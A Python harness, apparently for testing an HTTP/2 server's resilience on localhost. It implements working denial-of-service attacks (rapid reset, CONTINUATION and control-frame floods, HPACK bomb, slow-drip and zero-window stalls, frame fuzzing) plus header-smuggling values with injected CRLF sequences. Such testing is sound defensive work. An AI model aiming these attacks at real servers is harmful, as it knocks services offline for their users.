"""One client of HTTP/2 that means harm, beside one that asks ordinary questions. Standard library only; 127.0.0.1 only.

Usage: hostile_frames.py PORT ATTACK [PATIENCE]

Does the attack on a connection of its own until the server ends that connection or PATIENCE seconds (20) are over. Meanwhile asks
for /health, each time on a new connection. Prints one JSON object: how the attack ended, the codes of GOAWAY and RST_STREAM frames,
the frames sent, and how many ordinary requests were answered with 200 and how many were not.
"""
import http.client
import json
import random
import select
import socket
import ssl
import sys
import threading
import time

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4


def context(protocol):
    tls = ssl.create_default_context()
    tls.check_hostname = False
    tls.verify_mode = ssl.CERT_NONE
    tls.set_alpn_protocols([protocol])
    return tls


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def number(value, prefix, first):
    """An integer of HPACK."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def field(name, value, first=0x00, prefix=4):
    name, value = name.encode(), value.encode()
    return number(0, prefix, first) + number(len(name), 7, 0) + name + number(len(value), 7, 0) + value


def head(method, path, *more):
    pairs = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost")]
    return b"".join(field(name, value) for name, value in pairs + list(more))


def setting(key, value):
    return key.to_bytes(2, "big") + value.to_bytes(4, "big")


class Ended(Exception):
    """The other end is gone."""


class Client:
    """A connection that sends what it likes and reads frames without acting on any."""

    def __init__(self, port, settings=b"", preface=True, receive=None):
        plain = socket.socket()
        if receive:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
        plain.connect(("127.0.0.1", port))
        self.socket = context("h2").wrap_socket(plain, server_hostname="localhost")
        assert self.socket.selected_alpn_protocol() == "h2"
        self.socket.setblocking(False)
        self.came, self.sent, self.frames = b"", 0, {}
        self.goaways, self.resets, self.over, self.bytes = [], [], set(), 0
        self.reads = True
        if preface:
            self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """Sends all of it, reading what comes so that no full pipe hides the other end's answer."""
        view = memoryview(data)
        if time.monotonic() > deadline:
            raise TimeoutError
        while view:
            self.take(0)
            try:
                view = view[self.socket.send(view):]
            except ssl.SSLWantWriteError:
                select.select([self.socket] if self.reads else [], [self.socket], [], 0.05)
                if time.monotonic() > deadline:
                    raise TimeoutError
            except ssl.SSLWantReadError:
                select.select([self.socket], [], [], 0.05)
            except OSError:
                raise Ended
        self.sent += 1

    def take(self, seconds):
        """Reads what is there, or comes within some seconds."""
        if not self.reads:
            return
        while True:
            try:
                part = self.socket.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                if seconds and select.select([self.socket], [], [], seconds)[0]:
                    seconds = 0
                    continue
                return
            except OSError:
                raise Ended
            if not part:
                raise Ended
            self.bytes += len(part)
            self.came += part
            self.read_frames()
            seconds = 0

    def read_frames(self):
        while len(self.came) >= 9:
            length = int.from_bytes(self.came[:3], "big")
            if len(self.came) < 9 + length:
                return
            kind, payload = self.came[3], self.came[9:9 + length]
            stream = int.from_bytes(self.came[5:9], "big")
            self.came = self.came[9 + length:]
            self.frames[kind] = self.frames.get(kind, 0) + 1
            if kind == GOAWAY:
                self.goaways.append(int.from_bytes(payload[4:8], "big"))
            if kind == RST:
                self.over.add(stream)
                self.resets.append(int.from_bytes(payload[:4], "big"))

    def rest(self):
        """Waits for the end."""
        while time.monotonic() < deadline:
            self.take(0.1)
        raise TimeoutError

    def get(self, stream, path="/health", end=True):
        return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, head("GET", path))


def no_preface(port):
    yield Client(port, preface=False)


def silent(port):
    yield Client(port)


def drip(port, data):
    """Bytes one by one, with a pause after each, and zeros when they are over."""
    client = Client(port)
    yield client
    for byte in data:
        client.send(bytes([byte]))
        client.take(0.03)
    while time.monotonic() < deadline:
        client.send(b"\0")
        client.take(0.03)


def dripped_settings(port):
    yield from drip(port, frame(SETTINGS, 0, 0, setting(4, 65535) * 2000))


def dripped_head(port):
    yield from drip(port, frame(HEADERS, 0, 1, b"\0" * 16384))


def dripped_preface(port):
    client = Client(port, preface=False)
    yield client
    for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, setting(4, 65535) * 2000):
        client.send(bytes([byte]))
        client.take(0.05)


def endless_head(port):
    """HEADERS, then CONTINUATION after CONTINUATION."""
    client = Client(port)
    yield client
    client.send(frame(HEADERS, END_STREAM, 1, head("GET", "/health")))
    while True:
        client.send(frame(CONTINUATION, 0, 1, field("x-a", "b" * 1000)))


def empty_continuations(port):
    client = Client(port)
    yield client
    client.send(frame(HEADERS, END_STREAM, 1, head("GET", "/health")))
    while True:
        client.send(frame(CONTINUATION, 0, 1) * 100)


def head_bomb(port):
    """One field of 4,000 bytes is learnt, then named thousands of times: 16 KB that stand for 60 MB."""
    client = Client(port)
    yield client
    stream = 1
    while stream < 2000:
        block = head("GET", "/health") + field("x-bomb", "b" * 4000, 0x40, 6) + b"\xbe" * 12000
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        stream += 2


def opened_for_nothing(port, kind, payload):
    """Streams that are opened, each with one frame after it that ends it."""
    client = Client(port)
    yield client
    stream = 1
    while stream < 2_000_000:
        part = b""
        for _ in range(50):
            part += client.get(stream, "/large") + frame(kind, 0, stream, payload)
            stream += 2
        client.send(part)


def rapid_reset(port):
    """Streams that are opened and reset at once."""
    return opened_for_nothing(port, RST, (8).to_bytes(4, "big"))


def made_to_reset(port):
    """Streams that the server itself has to reset: each gets a window update of nothing."""
    return opened_for_nothing(port, WINDOW, b"\0\0\0\0")


def flood(port, data, times=1_000_000):
    client = Client(port)
    yield client
    for _ in range(times):
        client.send(data)


def pings(port):
    yield from flood(port, frame(PING, 0, 0, b"daybook!") * 100)


def settings(port):
    yield from flood(port, frame(SETTINGS, 0, 0, setting(4, 65535)) * 100)


def priorities(port):
    yield from flood(port, frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 100)


def windows(port):
    yield from flood(port, frame(WINDOW, 0, 0, b"\0\0\0\1") * 100, 1_000)


def window_overflow(port):
    yield from flood(port, frame(WINDOW, 0, 0, b"\x7f\xff\xff\xff") * 2, 2)


def empty_data(port):
    client = Client(port)
    yield client
    block = head("POST", "/login", ("content-type", "application/json"))
    client.send(frame(HEADERS, END_HEADERS, 1, block))
    while True:
        client.send(frame(DATA, 0, 1) * 100)


def dripped_body(port):
    client = Client(port)
    yield client
    block = head("POST", "/login", ("content-type", "application/json"))
    for stream in range(1, 200, 2):
        client.send(frame(HEADERS, END_HEADERS, stream, block))
    while len(client.resets) < 100:
        for stream in set(range(1, 200, 2)) - client.over:
            client.send(frame(DATA, 0, stream, b" "))
        client.take(0.02)


def stalled(port):
    """A hundred large answers that nobody lets out: the window is nothing and stays so."""
    client = Client(port, setting(4, 0))
    yield client
    for stream in range(1, 200, 2):
        client.send(client.get(stream, "/large"))


def crumbs(port):
    """A large answer let out byte by byte."""
    client = Client(port, setting(4, 0))
    yield client
    client.send(client.get(1, "/large"))
    while not client.resets:
        client.send(frame(WINDOW, 0, 1, b"\0\0\0\1"))
        client.take(0.02)


def unread(port):
    """A hundred large answers with all the room that HTTP/2 has, of which not a byte is read."""
    client = Client(port, setting(4, 0x7FFFFFFF), receive=4096)
    yield client
    part = frame(WINDOW, 0, 0, (0x70000000).to_bytes(4, "big"))
    for stream in range(1, 200, 2):
        part += client.get(stream, "/large")
    client.reads = False
    client.send(part)
    while time.monotonic() < deadline:
        client.send(frame(WINDOW, 0, 0, b"\0\0\0\1"))
        select.select([], [], [], 0.1)


def too_many(port):
    """Two hundred streams at once on a route that waits."""
    client = Client(port)
    yield client
    for stream in range(1, 400, 2):
        client.send(client.get(stream, "/slow"))


def noise(port):
    """Frames of any kind, flags, stream and content."""
    seed = random.randrange(1 << 32)
    chance = random.Random(seed)
    client = Client(port)
    client.seed = seed
    yield client
    while True:
        kind, flags, stream = chance.randrange(12), chance.randrange(256), chance.choice([0, 1, 2, 3, 5, 1 << 30])
        client.send(frame(kind, flags, stream, chance.randbytes(chance.choice([0, 1, 4, 5, 8, 40, 16384]))))


def huge_frame(port):
    client = Client(port)
    yield client
    client.send(b"\xff\xff\xff" + bytes([DATA, 0]) + (1).to_bytes(4, "big"))
    while True:
        client.send(b"a" * 65536)


def smuggled(port):
    """Names and values that would be other fields, or another request, in HTTP/1.1; each gets a connection of its own."""
    cases = [
        [("x", "a\r\nHost: b")], [("transfer-encoding", "chunked")], [("connection", "close")], [("X-Upper", "a")],
        [(":path", "/other")], [(":unknown", "a")], [("x y", "a")], [("host", "elsewhere\r\n\r\nGET / HTTP/1.1")],
        [("content-length", "5"), ("content-length", "6")], [("te", "gzip")],
    ]
    served = []
    for more in cases:
        client = Client(port)
        client.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, head("GET", "/health", *more)))
        try:
            while not client.goaways and not client.resets and HEADERS not in client.frames:
                client.take(0.1)
        except Ended:
            pass
        if HEADERS in client.frames:
            served.append(more[0][0])
        client.socket.close()
    client.served = served
    yield client
    raise Ended


def attack(port, name, outcome):
    client = None
    try:
        for client in globals()[name](port):
            pass
        client.rest()
    except Ended:
        outcome["end"] = "ended"
    except TimeoutError:
        outcome["end"] = "open"
    except Exception as error:
        outcome["end"] = repr(error)
    if client:
        outcome |= {"goaways": client.goaways, "resets": len(client.resets), "sent": client.sent, "bytes": client.bytes}
        outcome |= {"reset_codes": sorted(set(client.resets)), "served": getattr(client, "served", [])}
        outcome |= {"seed": getattr(client, "seed", 0)}


def ask(port, tls):
    """One ordinary request; True when it is answered with 200."""
    try:
        connection = http.client.HTTPSConnection("127.0.0.1", port, context=tls, timeout=20)
        connection.request("GET", "/health", headers={"Connection": "close"})
        answer = connection.getresponse()
        answer.read()
        connection.close()
        return answer.status == 200
    except (OSError, http.client.HTTPException):
        return False


if __name__ == "__main__":
    port, name = int(sys.argv[1]), sys.argv[2]
    deadline = time.monotonic() + float(sys.argv[3] if len(sys.argv) > 3 else 20)
    outcome, counts, tls = {}, {True: 0, False: 0}, context("http/1.1")
    thread = threading.Thread(target=attack, args=(port, name, outcome))
    thread.start()
    while True:
        counts[ask(port, tls)] += 1
        if not thread.is_alive():
            break
        thread.join(0.02)
    print(json.dumps(outcome | {"answered": counts[True], "unanswered": counts[False]}))
